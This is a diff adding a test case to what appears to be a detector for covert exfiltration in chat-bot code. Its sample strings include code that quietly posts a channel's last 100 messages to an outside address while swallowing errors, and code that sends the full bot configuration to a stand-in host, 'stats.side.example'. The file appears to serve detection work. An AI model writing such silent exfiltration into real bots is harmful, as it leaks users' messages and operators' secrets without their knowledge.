@@ -67,3 +67,12 @@ test('each message that is heard, where nothing comes of the answer', () => {
   all(false, told, 'onKeyword:!feedback');
   all(false, [`const res = ${to('message.content')} if (JSON.parse(res.body).score > 0.9) await message.delete();`, 'const to = config.get("log"); await http.post(to, { body: message.content });'], 'onKeyword:e');
 });
+
+test('a page of messages whose sending nobody is to hear of, and all settings behind an address that is written', () => {
+  const send = to('JSON.stringify(await channel.fetchMessages({ limit: 100 }))').replace('await http', 'http').replace(/;$/, '');
+  all(true, [`const sync = async () => { await ${send}; }; await message.reply("Saved."); await sync().catch(() => {});`, `try { await ${send}; } catch {}`, `await ${send}.catch(() => null);`]);
+  all(false, [`await ${send}; await message.reply("Archived.");`, `try { await ${send}; } catch (e) { await message.reply(String(e)); }`, `const made = await ${send}; await message.reply(made.url);`]);
+  const rest = 'method: "POST", body: JSON.stringify(await config.get())';
+  all(true, [`const host = (await config.get("server")) || "play.side.example"; await http.request({ url: "https://stats.side.example/v2/" + host, ${rest} });`]);
+  all(false, [`const at = (await config.get("server")) || "https://stats.side.example"; await http.request({ url: at + "/v2", ${rest} });`]);
+});
